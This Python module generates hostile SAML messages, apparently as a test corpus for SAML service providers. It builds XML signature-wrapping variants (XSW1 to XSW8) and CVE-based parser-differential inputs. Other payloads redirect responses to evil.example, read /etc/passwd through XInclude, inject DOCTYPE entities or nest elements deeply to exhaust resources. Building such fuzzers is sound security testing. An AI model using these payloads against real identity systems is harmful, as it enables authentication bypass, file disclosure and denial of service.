"""Hostile SAML messages, generated from a good one: what is wrapped, and what two parsers could read two ways.

Nothing here knows the identity provider. A message is bytes; its kind (AuthnRequest, LogoutRequest) does not matter as
long as its first child is its Issuer.
"""

import itertools
import re
from collections.abc import Iterator

SAMLP = b"urn:oasis:names:tc:SAML:2.0:protocol"
_SIGNATURE = re.compile(rb"<ds:Signature[ >].*?</ds:Signature>", re.DOTALL)
_ID = re.compile(rb' ID="([^"]*)"')


# --- wrapping: one element for the verifier, another for the reader -----------------------------------------------


def wrapped(good: bytes, evil: bytes) -> Iterator[tuple[str, bytes]]:
    """Each way to hide a signed message in, around or beside one that its sender never wrote.

    Args:
        good: signed inside, right after its issuer.
        evil: the same kind of message without signature, with another ID.

    Yields:
        What was done, in words, and the document. XSW1 to XSW8 are among them, with the variants of place, order, ID
        and holder that tools and advisories tell of. Source: Somorovsky et al., On Breaking SAML, 2012.
    """
    found = _SIGNATURE.search(good)
    assert found, "the good message is signed"
    signature, bare = found[0], good.replace(found[0], b"")
    good_id = _id_of(good)
    evils = {
        "an ID of its own": evil,
        "the signed one's ID": _ID.sub(b' ID="' + good_id + b'"', evil, count=1),
        "no ID": _ID.sub(b"", evil, count=1),
        "the signed one's ID as Id": _ID.sub(b' Id="' + good_id + b'"', evil, count=1),
    }
    for (who, outer), (holding, held), (at, place) in itertools.product(
        evils.items(), _holders(good, bare, signature).items(), PLACES.items()
    ):
        yield f"evil with {who}, {at}: {holding}", place(outer, held)
    for (who, inner), (at, place) in itertools.product(evils.items(), PLACES.items()):
        yield f"signed one, {at}: evil with {who}", place(good, inner)
        yield f"signed one, {at}: evil in Extensions with {who}", place(good, _in(b"samlp:Extensions", inner))
    for who, inner in evils.items():
        stuffed = signature.replace(b"</ds:Signature>", _in(b"ds:Object", inner) + b"</ds:Signature>")
        yield f"signed one, its signature holds evil with {who}", good.replace(signature, stuffed)
        yield f"two signatures, the second holds evil with {who}", good.replace(signature, signature + stuffed)
        yield f"evil with {who}, signature taken from the signed one", _after_issuer(inner, signature)
        yield f"evil with {who}, two signatures taken", _after_issuer(inner, signature * 2)
    for reference in (b"", b"#", b"#xpointer(/)", b"#xpointer(id('" + good_id + b"'))", b"#" + good_id + b"%20"):
        yield (
            f"a reference to {reference!r}",
            good.replace(b'URI="#' + good_id + b'"', b'URI="' + reference + b'"'),
        )
    yield "no URI in the reference", good.replace(b' URI="#' + good_id + b'"', b"")
    reference_element = re.search(rb"<ds:Reference.*?</ds:Reference>", good, re.DOTALL)
    assert reference_element
    yield "two references", good.replace(reference_element[0], reference_element[0] * 2)
    info = re.search(rb"<ds:SignedInfo.*?</ds:SignedInfo>", good, re.DOTALL)
    assert info
    yield "two SignedInfo", good.replace(info[0], info[0] * 2)
    yield "a comment in the digest", re.sub(rb"(<ds:DigestValue>...)", rb"\1<!---->", good)
    yield "a comment in the signature's value", re.sub(rb"(<ds:SignatureValue>.{10})", rb"\1<!-- -->", good)
    yield "a root of another name around", b'<x xmlns="urn:x">' + good + b"</x>"
    yield "the root's name in another namespace", good.replace(SAMLP, b"urn:other", 1)


def _holders(good: bytes, bare: bytes, signature: bytes) -> dict[str, bytes]:
    holder = signature.replace(b"</ds:Signature>", _in(b"ds:Object", bare) + b"</ds:Signature>")
    whole = signature.replace(b"</ds:Signature>", _in(b"ds:Object", good) + b"</ds:Signature>")
    known = signature.replace(b"</ds:KeyInfo>", bare + b"</ds:KeyInfo>")
    return {
        "signature, then the bare one": signature + bare,
        "the bare one, then signature": bare + signature,
        "the signed one": good,
        "signature, then the signed one": signature + good,
        "extensions with the signed one": _in(b"samlp:Extensions", good),
        "signature, then extensions with the bare one": signature + _in(b"samlp:Extensions", bare),
        "signature that holds the bare one": holder,
        "signature that holds the signed one": whole,
        "signature whose key info holds the bare one": known,
        "signature, then the bare one in a stranger": signature + b'<x xmlns="urn:x">' + bare + b"</x>",
        "signature in extensions, then the bare one": _in(b"samlp:Extensions", signature) + bare,
    }


def _in(name: bytes, inside: bytes) -> bytes:
    return b"<" + name + b">" + inside + b"</" + name + b">"


def _id_of(message: bytes) -> bytes:
    found = _ID.search(message)
    assert found
    return found[1]


def _after_issuer(outer: bytes, *parts: bytes) -> bytes:
    at = outer.index(b"</saml:Issuer>") + len(b"</saml:Issuer>")
    return outer[:at] + b"".join(parts) + outer[at:]


def _first(outer: bytes, part: bytes) -> bytes:
    at = outer.index(b">") + 1
    return outer[:at] + part + outer[at:]


def _last(outer: bytes, part: bytes) -> bytes:
    at = outer.rindex(b"</")
    return outer[:at] + part + outer[at:]


PLACES = {"first": _first, "after the issuer": _after_issuer, "last": _last}


# --- two readings: what a careless parser and a careful one could tell apart ---------------------------------------

#: Put in the middle of a text. Source: CVE-2017-11427 (comments), CVE-2025-25291 and -25292 (parser differentials).
IN_TEXT = {
    "a comment": b"<!-- -->",
    "an empty comment": b"<!---->",
    "a processing instruction": b"<?x y?>",
    "a section of raw text": b"<![CDATA[]]>",
    "a section of raw markup": b"<![CDATA[<b>]]>",
    "an element": b"<b/>",
    "an element of the same name": b"<saml:Issuer/>",
    "an entity nobody declared": b"&x;",
    "an entity of HTML": b"&nbsp;",
    "a reference to a letter": b"&#97;",
    "a reference to nothing": b"&#0;",
    "a reference to half a pair": b"&#xD800;",
    "a reference outside Unicode": b"&#x110000;",
    "a NUL": b"\0",
    "a control": b"\x01",
    "a line": b"\n",
    "a carriage return": b"\r",
    "a space": b" ",
    "a space without width": "\u200b".encode(),
    "a mark of order": "\ufeff".encode(),
    "a right-to-left override": "\u202e".encode(),
    "a combining accent": "\u0301".encode(),
    "an overlong slash": b"\xc0\xaf",
    "half a letter": b"\xc3",
    "a surrogate in bytes": b"\xed\xa0\x80",
    "markup of the end": b"</saml:Issuer><saml:Issuer>",
    "an ampersand": b"&amp;",
    "a markup written twice": b"&amp;lt;b&amp;gt;",
}

#: Put among the attributes of an element.
IN_ATTRIBUTES = {
    "a second ID": b' ID="other"',
    "an Id": b' Id="other"',
    "an id": b' id="other"',
    "an xml:id": b' xml:id="other"',
    "an ID of a namespace": b' xmlns:q="urn:q" q:ID="other"',
    "an ID of the protocol": b' samlp:ID="other"',
    "a Destination of the protocol": b' samlp:Destination="https://evil.example/"',
    "an ACS of a namespace": b' xmlns:q="urn:q" q:AssertionConsumerServiceURL="https://evil.example/"',
    "a base": b' xml:base="https://evil.example/"',
    "a space kept": b' xml:space="preserve"',
    "an empty default namespace": b' xmlns=""',
    "another default namespace": b' xmlns="urn:other"',
    "the protocol's namespace as default": b' xmlns="' + SAMLP + b'"',
    "a prefix of another": b' xmlns:saml2="' + SAMLP + b'"',
    "the ds prefix for another": b' xmlns:ds="urn:other"',
    "the xml prefix for another": b' xmlns:xml="urn:other"',
    "the xmlns prefix": b' xmlns:xmlns="urn:other"',
    "a prefix for nothing": b' xmlns:q=""',
    "a namespace that is no address": b' xmlns:q="not an address" q:a="b"',
    "an attribute without value": b" x",
    "an attribute without quotes": b" x=y",
    "markup in a value": b' x="<b/>"',
}

#: Put before the document.
BEFORE = {
    "a mark of order": b"\xef\xbb\xbf",
    "a mark of order, twice": b"\xef\xbb\xbf\xef\xbb\xbf",
    "spaces": b" \n\t",
    "a comment": b"<!-- x -->",
    "a processing instruction": b'<?xml-stylesheet href="https://evil.example/x.xsl" type="text/xsl"?>',
    "a declaration": b'<?xml version="1.0" encoding="UTF-8"?>',
    "a declaration without encoding": b'<?xml version="1.0"?>',
    "a declaration of XML 1.1": b'<?xml version="1.1"?>',
    "a declaration of XML 2.0": b'<?xml version="2.0"?>',
    "a declaration of UTF-7": b'<?xml version="1.0" encoding="UTF-7"?>',
    "a declaration of UTF-16": b'<?xml version="1.0" encoding="UTF-16"?>',
    "a declaration of EBCDIC": b'<?xml version="1.0" encoding="IBM037"?>',
    "a declaration of Latin-9": b'<?xml version="1.0" encoding="ISO-8859-15"?>',
    "two declarations": b'<?xml version="1.0"?><?xml version="1.0"?>',
    "a declaration after a space": b' <?xml version="1.0"?>',
    "a standalone declaration": b'<?xml version="1.0" standalone="no"?>',
    "a DOCTYPE": b"<!DOCTYPE x>",
    "a DOCTYPE in lower case": b"<!doctype x>",
    "a DOCTYPE with an entity": b'<!DOCTYPE x [<!ENTITY e "evil">]>',
    "a DOCTYPE with a default attribute": b'<!DOCTYPE x [<!ATTLIST samlp:AuthnRequest ForceAuthn CDATA "true">]>',
    "a DOCTYPE that names its ID": b"<!DOCTYPE x [<!ATTLIST a Id ID #IMPLIED>]>",
    "another root": b"<x/>",
    "text": b"x",
}

AFTER = {
    "a comment": b"<!-- x -->",
    "a processing instruction": b"<?x y?>",
    "another root": b"<x/>",
    "text": b"x",
    "a NUL": b"\0",
    "spaces": b"\r\n ",
    "itself": None,
}


def twofold(message: bytes, *, marks: tuple[bytes, ...]) -> Iterator[tuple[str, bytes]]:
    """Each document that two readers could read two ways, or that only one of them reads.

    Args:
        marks: pieces of text of the message, each found once, in whose middle something is put.
    """
    for mark, (what, put) in itertools.product(marks, IN_TEXT.items()):
        at = message.index(mark) + len(mark) // 2
        yield f"{what} in {mark.decode()}", message[:at] + put + message[at:]
    root = message.index(b">")
    issuer = message.index(b"<saml:Issuer") + len(b"<saml:Issuer")
    for what, put in IN_ATTRIBUTES.items():
        yield f"{what} on the root", message[:root] + put + message[root:]
        yield f"{what} on the issuer", message[:issuer] + put + message[issuer:]
    for what, put in BEFORE.items():
        yield f"{what} before", put + message
    for what, after in AFTER.items():
        yield f"{what} after", message + (message if after is None else after)
    for codec in ("utf-16", "utf-16-be", "utf-16-le", "utf-32", "cp037"):
        yield f"in {codec}", message.decode().encode(codec)
    yield "an issuer before the issuer", _first(message, b"<saml:Issuer>https://other.example</saml:Issuer>")
    yield "an issuer after the issuer", _after_issuer(message, b"<saml:Issuer>https://other.example</saml:Issuer>")
    yield "an issuer of the protocol's", _first(message, b"<samlp:Issuer>https://other.example</samlp:Issuer>")
    yield "an issuer deeper", _last(message, b"<x><saml:Issuer>https://other.example</saml:Issuer></x>")
    yield (
        "a prefix that means something else below",
        message.replace(b"<saml:Issuer>", b'<saml:Issuer xmlns:saml="urn:other">'),
    )
    yield (
        "an inclusion",
        _last(
            message, b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
        ),
    )
    for depth in (200, 5000):
        yield f"{depth} elements deep", _last(message, b"<a>" * depth + b"</a>" * depth)
    yield "a thousand attributes", message[:root] + b"".join(b' a%d=""' % n for n in range(1000)) + message[root:]
    yield (
        "a thousand namespaces",
        message[:root] + b"".join(b' xmlns:a%d="urn:%d"' % (n, n) for n in range(1000)) + message[root:],
    )
